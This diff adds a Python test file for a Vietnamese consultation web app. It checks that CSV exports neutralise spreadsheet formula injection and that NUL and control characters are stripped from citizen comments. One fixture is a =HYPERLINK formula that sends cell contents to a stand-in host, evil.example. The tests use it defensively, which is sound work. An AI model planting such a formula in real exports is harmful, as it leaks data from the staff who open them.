@@ -1,0 +1,130 @@
+"""What citizens type cannot attack the staff who open an export, nor break a document: a
+cell that could start a formula opens as text; a NUL or another control character never
+reaches the database."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+
+from flask.testing import FlaskClient
+from sqlalchemy import update
+from sqlmodel import Session, select
+
+from consult.db import write_session
+from consult.documents import docx_reader
+from consult.models import Comment, Organization
+from consult.runtime import Runtime
+from consult.text import spreadsheet_cell
+from tests.conftest import Clock
+from tests.helpers import csrf, login, post_draft, start, take
+
+AFTER_WINDOW = datetime(2024, 3, 22, 1, 0, tzinfo=UTC)
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "+84 912 345 678",
+    "-2+3",
+    "@SUM(1+1)",
+]
+
+
+def opened(runtime: Runtime, commune: Organization) -> int:
+    consultation_id = start(runtime, commune)
+    post_draft(runtime, consultation_id)
+    return consultation_id
+
+
+def stored(runtime: Runtime, consultation_id: int) -> list[Comment]:
+    with Session(runtime.db) as session:
+        query = select(Comment).where(Comment.consultation_id == consultation_id)
+        return list(session.exec(query.order_by(Comment.id)))  # type: ignore[arg-type]
+
+
+def test_a_cell_that_could_start_a_formula_opens_as_text_in_the_csv_exports(
+    client: FlaskClient, runtime: Runtime, commune: Organization
+) -> None:
+    consultation_id = opened(runtime, commune)
+    for body in FORMULAS:
+        sent = client.post(
+            f"/api/v1/consultations/{consultation_id}/comments",
+            json={"body": body, "author_name": "=1+1"},
+        )
+        assert sent.status_code == 201, sent.get_json()
+    login(client, "mttq")
+    for public in ("0", "1"):
+        export = client.get(f"/staff/review/{consultation_id}/export.csv?public={public}")
+        assert export.status_code == 200
+        raw = export.data
+        assert b"'=HYPERLINK(" in raw and b"\n=HYPERLINK" not in raw and b",=" not in raw
+        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+        header, data = rows[0], rows[1:]
+        bodies = [row[header.index("Nội dung ý kiến")] for row in data]
+        assert bodies == ["'" + body for body in FORMULAS]
+        for row in data:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        if public == "0":
+            assert {row[header.index("Họ và tên")] for row in data} == {"'=1+1"}
+
+
+def test_ordinary_text_and_numbers_are_left_as_they_are() -> None:
+    assert spreadsheet_cell("Nhất trí với dự thảo.") == "Nhất trí với dự thảo."
+    assert spreadsheet_cell("Đề nghị = công bằng") == "Đề nghị = công bằng"
+    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell("") == ""
+    assert spreadsheet_cell("\t=1+1") == "'\t=1+1" and spreadsheet_cell("\r=1") == "'\r=1"
+
+
+def test_a_nul_in_any_field_never_reaches_the_database(
+    client: FlaskClient, runtime: Runtime, commune: Organization
+) -> None:
+    consultation_id = opened(runtime, commune)
+    sent = client.post(
+        f"/api/v1/consultations/{consultation_id}/comments",
+        json={
+            "body": "Ý kiến\u0000 có\u0007 ký tự lạ\nxuống dòng\ttab",
+            "locality": "Thôn\u0000Y",
+            "author_name": "Trần\u0000 Mai",
+            "contact": "09\u001b12",
+        },
+    )
+    assert sent.status_code == 201, sent.get_json()
+    path = f"/consultations/{consultation_id}/comment"
+    form = client.post(
+        path,
+        data={
+            "csrf_token": csrf(client, path),
+            "body": "Qua biểu mẫu\u0000 có NUL",
+            "author_name": "Lê\u0000 Văn",
+            "article": "",
+            "locality": "",
+        },
+    )
+    assert form.status_code == 302
+    api, web = stored(runtime, consultation_id)
+    assert api.body == "Ý kiến có ký tự lạ\nxuống dòng\ttab"  # line breaks and tabs kept
+    assert (api.locality, api.author_name, api.contact) == ("ThônY", "Trần Mai", "0912")
+    assert web.body == "Qua biểu mẫu có NUL" and web.author_name == "Lê Văn"
+
+
+def test_a_nul_stored_before_never_breaks_the_synthesis_report(
+    client: FlaskClient, runtime: Runtime, commune: Organization, clock: Clock
+) -> None:
+    consultation_id = opened(runtime, commune)
+    client.post(
+        f"/api/v1/consultations/{consultation_id}/comments",
+        json={"body": "Nhất trí.", "locality": "Thôn Y"},
+    )
+    with write_session(runtime.db) as session:  # a row written before the rule existed
+        session.execute(update(Comment).values(locality="Thôn\x00Y", body="Nhất\x00 trí."))
+    clock.set(AFTER_WINDOW)
+    take(runtime, consultation_id, "close_posting", "system")
+    login(client, "tuphap")
+    token = csrf(client, f"/staff/review/{consultation_id}/report")
+    generated = client.post(
+        f"/staff/review/{consultation_id}/report/generate", data={"csrf_token": token}
+    )
+    assert generated.status_code == 302
+    report = client.get(f"/staff/review/{consultation_id}/report.docx")
+    assert report.status_code == 200
+    assert "ThônY" in docx_reader.text(report.data)
